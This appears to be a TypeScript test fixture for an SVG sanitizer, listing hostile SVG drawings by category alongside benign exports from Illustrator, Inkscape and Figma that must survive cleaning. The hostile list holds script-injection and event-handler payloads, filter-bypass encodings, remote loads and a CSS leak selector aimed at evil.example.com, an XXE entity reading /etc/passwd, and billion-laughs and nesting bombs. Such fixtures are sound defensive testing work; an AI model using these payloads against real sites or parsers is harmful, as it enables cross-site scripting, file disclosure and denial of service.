/** A drawing that would run, load or leak something, or exhaust its reader. */
export interface HostileSvg {
  readonly kind: string;
  readonly svg: string | Buffer;
}

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20"';
const svg = (inside: string, attributes = '') => `<svg ${NS}${attributes}>${inside}</svg>`;
const of = (kind: string, ...drawings: readonly (string | Buffer)[]): HostileSvg[] => drawings.map((text) => ({ kind, svg: text }));
const PIXEL = 'data:image/png;base64,iVBORw0KGgo=';

/** Drawings by what makes them hostile. */
export const hostileSvgs: readonly HostileSvg[] = [
  ...of(
    'script',
    svg('<script>alert(1)</script>'),
    svg('<script href="https://evil.example.com/x.js"/>'),
    svg('<script xlink:href="data:text/javascript,alert(1)"/>'),
    svg('<script type="application/ecmascript"><![CDATA[alert(1)]]></script>'),
    svg('<SCRIPT>alert(1)</SCRIPT>'),
    svg('<g><defs><script>alert(1)</script></defs></g>'),
    `<s:svg xmlns:s="http://www.w3.org/2000/svg" width="9" height="9"><s:script>alert(1)</s:script></s:svg>`,
    svg('<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
  ),
  ...of(
    'handler',
    svg('<path d="M0 0"/>', ' onload="alert(1)"'),
    svg('<rect onclick="alert(1)" width="9" height="9"/>'),
    svg('<g onmouseover="alert(1)"/>'),
    svg('<path onbegin="alert(1)"/>'),
    svg('<text onfocusin="alert(1)" tabindex="1">x</text>'),
    svg('<path ONLOAD="alert(1)"/>'),
    svg('<path x:onload="alert(1)" xmlns:x="http://www.w3.org/2000/svg"/>'),
    svg('<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="#x"/>'),
  ),
  ...of(
    'javascript address',
    svg('<a href="javascript:alert(1)"><text>x</text></a>'),
    svg('<a xlink:href="java&#115;cript:alert(1)"><text>x</text></a>'),
    svg('<a href="jav&#x09;ascript:alert(1)"><text>x</text></a>'),
    svg('<a href=" &#1;javascript:alert(1)"><text>x</text></a>'),
    svg('<a href="JaVaScRiPt&colon;alert(1)"><text>x</text></a>'),
    svg('<a href="data:text/html,&lt;script>alert(1)&lt;/script>"><text>x</text></a>'),
    svg('<a href="vbscript:msgbox(1)"><text>x</text></a>'),
    svg('<linearGradient href="javascript:alert(1)"/>'),
    svg('<linearGradient xlink:href="https://evil.example.com/a.svg#g"/>'),
  ),
  ...of(
    'what loads',
    svg('<image href="https://evil.example.com/pixel.png" width="9" height="9"/>'),
    svg(`<image xlink:href="${PIXEL}" width="9" height="9"/>`),
    svg('<image href="data:image/svg+xml,&lt;svg onload=alert(1)>" width="9" height="9"/>'),
    svg('<use href="https://evil.example.com/a.svg#x"/>'),
    svg('<use xlink:href="data:image/svg+xml;base64,PHN2Zz4=#x"/>'),
    svg('<feImage href="https://evil.example.com/x.png"/>'),
    svg('<filter id="f"><feImage xlink:href="https://evil.example.com/x.png"/></filter>'),
    svg('<path fill="url(https://evil.example.com/a.svg#g)"/>'),
    svg('<path clip-path="url(\'//evil.example.com/a.svg#c\')"/>'),
    svg('<path mask="ur\\6c(https://evil.example.com/m.svg#m)"/>'),
    svg('<path style="fill:url(https://evil.example.com/a)"/>'),
    svg('<path style="background:image-set(\'https://evil.example.com/a\' 1x)"/>'),
    svg('<style>@import "https://evil.example.com/a.css";</style>'),
    svg('<style>@import url(https://evil.example.com/a.css);</style>'),
    svg('<style>@font-face{font-family:x;src:url(https://evil.example.com/f.woff)}</style>'),
    svg('<style>.a{fill:url("https://evil.example.com/a")}</style>'),
    svg('<style>.a{fill:u\\72l(https://evil.example.com/a)}</style>'),
    svg('<style>path[d^="M"]{fill:url(//evil.example.com/leak)}</style>'),
    svg('<style><![CDATA[.a{}]]>&lt;/style>&lt;script>alert(1)&lt;/script></style>'),
    svg('<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example.com/a.css"/>'),
    `<?xml-stylesheet href="https://evil.example.com/a.css"?>${svg('')}`,
    `<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>${svg('')}`,
  ),
  ...of(
    'foreign content',
    svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>'),
    svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>'),
    svg('<html xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></html>'),
    svg('<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="x"/>'),
    svg('<object xmlns="http://www.w3.org/1999/xhtml" data="data:text/html,x"/>'),
    svg('<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext/></math>'),
    svg(`<svg ${NS} onload="alert(1)"><path/></svg>`),
    svg('<video xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example.com/v"/>'),
  ),
  ...of(
    'animation',
    svg('<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>'),
    svg('<animate attributeName="href" to="javascript:alert(1)"/>'),
    svg('<set attributeName="onmouseover" to="alert(1)"/>'),
    svg('<set attributeName="xlink:href" to="javascript:alert(1)"/>'),
    svg('<animateTransform attributeName="transform" onend="alert(1)"/>'),
    svg('<animateMotion onbegin="alert(1)"/>'),
    svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'),
    svg('<discard begin="1s"/>'),
  ),
  ...of(
    'entities and encodings',
    `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${svg('&x;')}`,
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
    `<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example.com/p.dtd"> %p;]>${svg('')}`,
    `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${svg('')}`,
    `<!DOCTYPE svg [${lol()}]>${svg('<text>&l9;</text>')}`,
    Buffer.from(`\ufeff${svg('<script>alert(1)</script>')}`, 'utf16le'),
    Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>${svg('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')}`),
    Buffer.concat([Buffer.from(svg('').slice(0, -6)), Buffer.from([0xc0, 0xbc]), Buffer.from('script>alert(1)</script></svg>')]),
    `<?xml version="1.0" encoding="iso-8859-1"?>${svg('<script>alert(1)</script>')}`,
    svg('<script>alert(1)</script>').replace('<script', '<\u0000script'),
    `${svg('')}<script>alert(1)</script>`,
    `<html><body>${svg('')}<script>alert(1)</script></body></html>`,
    svg('<!--><script>alert(1)</script>-->'),
    svg(']]><script>alert(1)</script>'),
  ),
  ...of(
    'exhaustion',
    svg('<g>'.repeat(5000) + '</g>'.repeat(5000)),
    svg('<path/>'.repeat(50_000)),
    svg(`<g id="a"><path/></g>${Array.from({ length: 20 }, (_, at) => `<g id="u${at}"><use href="#a"/><use href="#a"/></g>`).join('')}`),
    svg(`<path ${Array.from({ length: 200 }, (_, at) => `d${at}="x"`).join(' ')}/>`),
  ),
];

/** Ten entities of ten of the one before: ten milliard laughs. */
function lol(): string {
  const ten = (name: string) => `&${name};`.repeat(10);
  return Array.from({ length: 10 }, (_, at) => `<!ENTITY l${at} "${at === 0 ? 'lol' : ten(`l${at - 1}`)}">`).join('');
}

/** Drawings as programs write them, which have to stay what they are. */
export const honestSvgs: { readonly [name: string]: string } = {
  illustrator: `<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: drawing program -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px" viewBox="0 0 120 40" style="enable-background:new 0 0 120 40;" xml:space="preserve">
<style type="text/css">.st0{fill:#C8102E;}
.st1,.st2{fill:none;stroke:#000000;stroke-width:2;stroke-miterlimit:10;}</style>
<g><path class="st0" d="M10,10h20v20H10z"/><circle class="st1" cx="60" cy="20" r="12.5"/></g></svg>`,
  inkscape: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" width="50mm" height="10mm" viewBox="0 0 50 10" inkscape:version="1.3">
<sodipodi:namedview id="base" inkscape:zoom="1"/><metadata><rdf:RDF/></metadata><defs><linearGradient id="a"><stop offset="0" style="stop-color:#00f;stop-opacity:1"/><stop offset="1" stop-color="red"/></linearGradient><linearGradient id="b" href="#a" x1="0" x2="50" gradientUnits="userSpaceOnUse"/></defs>
<g inkscape:label="Layer" transform="translate(2 1) rotate(3)"><rect style="fill:url(#b);-inkscape-stroke:none" width="40" height="8" rx="1"/></g></svg>`,
  figma: `<svg width="24" height="24" viewBox="0 0 24 24" fill="none" xmlns="http://www.w3.org/2000/svg"><mask id="m" style="mask-type:luminance" maskUnits="userSpaceOnUse" x="0" y="0" width="24" height="24"><path d="M0 0H24V24H0z" fill="white"/></mask><g mask="url(#m)" clip-path="url(#c)"><path fill-rule="evenodd" d="M2 2h20v9H2z" fill="#0A7"/></g><defs><clipPath id="c"><rect width="24" height="24" fill="white"/></clipPath></defs></svg>`,
  words: `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="30" role="img" aria-label="Acme"><title>Acme &amp; Co</title><text x="4" y="20" font-family="'Jost', Arial" font-size="16" letter-spacing=".5">Acme &lt;3 <tspan dy="2">1</tspan></text></svg>`,
};
